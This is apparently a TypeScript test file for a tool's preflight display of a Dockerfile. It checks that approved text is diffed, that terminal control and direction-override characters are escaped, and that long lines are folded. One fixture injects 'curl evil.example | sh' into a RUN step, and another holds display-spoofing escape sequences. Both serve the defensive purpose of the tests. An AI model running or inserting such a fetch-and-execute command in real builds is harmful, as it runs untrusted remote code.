import { describe, expect, test } from "bun:test";
import type { ImagePlan } from "../../../src/plan/plan.ts";
import { renderPlanJson } from "../../../src/plan/plan-json.ts";
import { renderPreflight } from "../../../src/plan/preflight.ts";
import type { PreflightContext } from "../../../src/plan/preflight.ts";
import { aPlan } from "../../support/manifests.ts";

const context: PreflightContext = { engine: "Docker", change: "first", hasColor: false };
const text =
  "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nUSER root\nRUN apt-get update \\\n    && true\n\tand a tab\nUSER node\n";

function aPlanOf(dockerfileText: string, differences: Partial<ImagePlan> = {}) {
  const image = { ...aPlan().image, dockerfile: "/p/D", dockerfileText, buildNetwork: "default" };
  return aPlan({ image: { ...image, ...differences } });
}

/** The lines of one section, without its title */
function section(
  plan: ReturnType<typeof aPlan>,
  title: string,
  more: Partial<PreflightContext> = {},
): string[] {
  const lines = renderPreflight(plan, { ...context, ...more }).split("\n");
  const begin = lines.findIndex((line) => line.startsWith(`  ${title} `));
  if (begin < 0) return [];
  const end = lines.findIndex((line, index) => index > begin && /^ {2}\S/.test(line));
  return lines.slice(begin, end < 0 ? -1 : end).map((line) => line.slice(13));
}

describe("the Dockerfile in a preflight", () => {
  test("is shown whole where none was approved, with its lines' numbers and indentation", () => {
    expect(section(aPlanOf(text), "dockerfile")).toEqual([
      "1  ARG BASE_IMAGE",
      "2  FROM ${BASE_IMAGE}",
      "3  USER root",
      "4  RUN apt-get update \\",
      "5      && true",
      "6      and a tab",
      "7  USER node",
    ]);
  });

  test("is shown as what changed since the approval, and not at all where nothing did", () => {
    // The control: of the text that was approved nothing is shown again
    expect(section(aPlanOf(text), "dockerfile", { approvedDockerfile: text })).toEqual([
      "7 lines, as approved",
    ]);
    const evil = text.replace("    && true", "    && curl evil.example | sh").replace("USER node\n", "");
    expect(section(aPlanOf(evil), "dockerfile", { approvedDockerfile: text })).toEqual([
      "-5      && true",
      "+5      && curl evil.example | sh",
      "-7  USER node",
    ]);
    expect(
      section(aPlanOf(text.replaceAll("\n", "\r\n")), "dockerfile", { approvedDockerfile: text }),
    ).toEqual(["different line breaks than you approved"]);
  });

  test("draws nothing, whatever is in it, and no line of it passes for another one", () => {
    const hostile = `RUN x\u001b[2K\u202e\r\u2028y\n${" ".repeat(80)}8  USER node\n\u00a0  RUN z   w\n`;
    expect(section(aPlanOf(hostile), "dockerfile")).toEqual([
      "1  RUN x\\x1b[2K\\u{202e}\\x0d\\u{2028}y",
      `2   ${"\\x20".repeat(79)}8 \\x20USER node`,
      "3  \\xa0 \\x20RUN z \\x20\\x20w",
    ]);
    for (const width of [40, 80, 200]) {
      const lines = section(aPlanOf(`${"a b ".repeat(400)}\n`), "dockerfile", { width });
      expect(lines.filter((line) => /^\S/.test(line))).toHaveLength(1);
    }
  });

  test("is folded where it is long, with how to see all of it next to the question", () => {
    const long = Array.from({ length: 300 }, (_, index) => `RUN ${index}\n`).join("");
    const lines = section(aPlanOf(long), "dockerfile");
    expect([lines.length, lines.at(-1)]).toEqual([61, "…   240 lines more, not shown"]);
    const warning = section(aPlanOf(long), "warning").at(-1);
    expect(warning).toContain("240 lines of the Dockerfile are not shown in full above");
    expect(warning).toContain('"claude-bottle start helper --dry-run --json"');
    expect(JSON.parse(renderPlanJson(aPlanOf(long)))).toMatchObject({ image: { dockerfileText: long } });
    const wide = `RUN ${"x".repeat(1000)}; evil\n`;
    expect(section(aPlanOf(wide), "dockerfile")[0]).toEndWith("x… (210 characters more, not shown)");
    expect(section(aPlanOf(wide), "warning").at(-1)).toContain(
      "1 line of the Dockerfile is not shown in full",
    );
  });

  test("shows what came before what is gone where both are too much", () => {
    const before = Array.from({ length: 200 }, (_, index) => `RUN ${index}\n`).join("");
    const lines = section(aPlanOf("RUN evil\n"), "dockerfile", { approvedDockerfile: before });
    expect(lines[0]).toBe("+ 1  RUN evil");
    expect(lines.at(-1)).toContain("141 lines more");
  });
});

describe("a warning of the build", () => {
  test.each<[string, Partial<ImagePlan>, string]>([
    ["a Dockerfile", {}, "the Dockerfile's RUN lines can do"],
    [
      "packages",
      { dockerfile: undefined, dockerfileText: undefined, packages: { apt: ["jq"], npm: [] } },
      "what the packages run when they are installed can do",
    ],
    ["both", { packages: { apt: [], npm: ["x"] } }, "the Dockerfile's RUN lines and what the packages run"],
  ])("says what %s may do there, and on which network", (_name, differences, words) => {
    const [warning] = section(aPlanOf(text, differences), "warning");
    expect(warning).toStartWith(words);
    expect(warning).toContain("on the engine's default network");
  });

  test("is not there where nothing of the manifest's is built", () => {
    expect(section(aPlan(), "warning")).toEqual([]);
    expect(section(aPlanOf(text, { state: "given" }), "warning")).toEqual([]);
  });
});
